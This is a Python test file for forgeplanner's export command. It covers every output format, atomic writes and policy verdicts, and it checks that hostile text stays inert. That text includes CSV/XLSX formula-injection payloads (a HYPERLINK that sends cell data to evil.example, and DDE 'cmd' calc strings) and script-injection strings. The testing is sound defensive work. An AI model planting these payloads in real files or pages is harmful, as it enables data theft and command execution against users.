"""`forgeplanner export`: every format, atomic writes, and hostile text kept inert."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from forgeplanner.cli.main import main
from forgeplanner.export.charts import all_charts, nice_ticks
from forgeplanner.export.html import render_html
from forgeplanner.export.markdown import render_markdown
from forgeplanner.export.render import export_plan
from forgeplanner.export.tabular import FORMULA_TRIGGERS, neutralise, render_csv
from forgeplanner.plan.files import write_plan
from tests.plan.samples import NOW, sample_plan

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\x01=1+1",
]


def hostile_plan(i: int = 0):
    plan = sample_plan(name=HOSTILE[i], model_name=HOSTILE[(i + 1) % len(HOSTILE)])
    build = plan.build
    machine = replace(
        build.machines[0],
        label=HOSTILE[(i + 2) % len(HOSTILE)],
        role=HOSTILE[(i + 3) % len(HOSTILE)],
    )
    model = replace(build.models[0], model_id=HOSTILE[(i + 4) % len(HOSTILE)])
    runs = tuple(
        replace(
            r,
            model_id=HOSTILE[(i + 5) % len(HOSTILE)],
            fingerprint={"chip": HOSTILE[(i + 6) % len(HOSTILE)]},
        )
        for r in plan.runs
    )
    return replace(plan, build=replace(build, machines=(machine,), models=(model,)), runs=runs)


@pytest.fixture
def plan_file(tmp_path: Path) -> Path:
    path = tmp_path / "lab.fplan"
    write_plan(path, sample_plan())
    return path


@pytest.mark.parametrize("fmt", ["md", "html", "pdf", "csv", "xlsx", "json"])
def test_every_format_from_the_cli(plan_file: Path, tmp_path: Path, fmt: str, capsys) -> None:
    out = tmp_path / f"plan.{fmt}"
    assert main(["export", str(plan_file), "--format", fmt, "--out", str(out), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    expected = {"format": fmt, "out": str(out), "bytes": out.stat().st_size}
    if fmt == "json":  # the record is also kept in the user database
        expected["evidence_id"] = 1
    assert report == expected
    data = out.read_bytes()
    if fmt == "pdf":
        assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
        assert len(data) > 10_000  # text and the three chart images
    elif fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        assert book.sheetnames == ["Bill of materials", "Estimates", "Measured results"]
        bom = book["Bill of materials"]
        header = [c.value for c in bom[1]]
        row = dict(zip(header, [c.value for c in bom[2]], strict=True))
        assert row["Configuration id"] == "mac-studio-m2-ultra-76c-192gb" and row["Count"] == 1
        assert row["Machine"] == "Mac Studio (2023) - M2 Ultra, 192 GB"
        assert row["Unit price (USD)"] == 3999.0 and row["Price basis"] == "observed"
        measured = book["Measured results"]
        mh = [c.value for c in measured[1]]
        mrow = dict(zip(mh, [c.value for c in measured[2]], strict=True))
        assert (mrow["Metric"], mrow["Unit"]) == ("Decode", "tokens/s")
        assert mrow["Measured"] == 11.8 and mrow["Estimated"] == 12.5 and mrow["Error (%)"] == -5.6
        assert mrow["Machine in the plan"] == "yes" and mrow["Warning"] is None
    elif fmt == "json":
        assert main(["evidence", "verify", str(out)]) == 0
    else:
        assert "Mac Studio (2023) - M2 Ultra" in data.decode("utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["lab.fplan", out.name])


def test_markdown_tables_and_sections() -> None:
    md = render_markdown(sample_plan())
    for heading in (
        "# Build plan: 70B at home",
        "## Bill of materials",
        "## Estimates",
        "## Measured runs: estimate vs measured",
        "## Alternatives",
        "#### Inference cluster",
    ):
        assert heading in md
    assert (
        "| 7 | llama.cpp | llama-3.3-70b | Apple M2 Ultra | Decode (tokens/s) | 12.50 | 11.80 | "
        "-5.6 % |" in md
    )


def test_html_is_self_contained_with_inline_charts() -> None:
    html = render_html(sample_plan())
    assert html.count("<svg") == 3
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    lowered = html.lower()
    assert "<script" not in lowered and "<link" not in lowered and "url(" not in lowered
    # The only URL is the SVG namespace name, which is never fetched.
    urls = set(re.findall(r"https?://[^\"'\s<>]+", html))
    assert urls == {"http://www.w3.org/2000/svg"}
    assert 'src="' not in html


def test_charts_need_data() -> None:
    plan = sample_plan()
    assert set(all_charts(plan)) == {"memory", "speed", "price_speed"}
    empty = replace(plan, build=replace(plan.build, estimates=()), alternatives=())
    assert all_charts(empty) == {}
    assert nice_ticks(47.3) == [0, 10, 20, 30, 40, 50]
    assert nice_ticks(0) == [0.0, 1.0]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise(value: str) -> None:
    out = neutralise(value)
    assert out == "'" + value
    assert neutralise("Mac Studio") == "Mac Studio" and neutralise(-3.5) == -3.5


@pytest.mark.parametrize("i", range(len(HOSTILE)))
def test_hostile_text_is_inert_in_csv(i: int) -> None:
    text = render_csv(hostile_plan(i)).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    for value in HOSTILE:
        if value in text:
            assert "'" + value in cells or all(not c.startswith(value) for c in cells)
    for c in cells:
        stripped = c.lstrip(" \t\r\n\x00\x01")
        assert not (c.startswith(FORMULA_TRIGGERS) or stripped.startswith(FORMULA_TRIGGERS)) or (
            _is_number(c)
        ), repr(c)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("i", range(len(HOSTILE)))
def test_hostile_text_is_inert_in_xlsx(i: int, tmp_path: Path) -> None:
    out = export_plan(hostile_plan(i), "xlsx", tmp_path / "x.xlsx", now=NOW)
    book = openpyxl.load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" \t\r\n").startswith(FORMULA_TRIGGERS) or (
                        _is_number(cell.value)
                    ), repr(cell.value)
                    seen += cell.value.startswith("'")
    assert seen >= 3  # plan machine label, model id, run model are all there, neutralised


def test_hostile_text_is_escaped_in_html_and_markdown() -> None:
    plan = sample_plan(name="<script>alert(1)</script>", model_name="x")
    plan = replace(
        plan,
        build=replace(
            plan.build,
            machines=(
                replace(
                    plan.build.machines[0],
                    label="a | b\n# not a heading <img src=x onerror=alert(1)>",
                ),
            ),
        ),
    )
    html = render_html(plan)
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html
    md = render_markdown(plan)
    assert "\\<script\\>" in md and "<script>" not in md
    bom = next(line for line in md.splitlines() if "mac-studio-m2-ultra-76c-192gb" in line)
    assert bom.count(" | ") == 8  # nine cells: the pipe in the label is escaped
    assert "a \\| b \\# not a heading" in bom


def test_failed_export_leaves_the_previous_file(tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"previous export")

    def boom(plan):
        raise RuntimeError("renderer crashed")

    monkeypatch.setattr("forgeplanner.export.tabular.render_xlsx", boom)
    with pytest.raises(RuntimeError):
        export_plan(sample_plan(), "xlsx", out, now=NOW)
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.xlsx"]


def test_export_with_policy_puts_verdicts_in_the_record(plan_file, tmp_path, capsys) -> None:
    policy = tmp_path / "p.toml"
    policy.write_text("[budget]\nmax_usd = 3000\n")
    out = tmp_path / "e.json"
    assert (
        main(
            [
                "export",
                str(plan_file),
                "--format",
                "json",
                "--out",
                str(out),
                "--policy",
                str(policy),
            ]
        )
        == 0
    )
    record = json.loads(out.read_text())
    assert record["gate"]["outcome"] == "DENY"
    assert record["gate"]["policy"]["text"] == "[budget]\nmax_usd = 3000\n"
    assert record["plan"]["plan"]["verdicts"][0]["rule"] == "budget"
    assert main(["evidence", "verify", str(out)]) == 0
    md = tmp_path / "p.md"
    assert (
        main(
            ["export", str(plan_file), "--format", "md", "--out", str(md), "--policy", str(policy)]
        )
        == 0
    )
    assert "## Gate verdicts" in md.read_text()
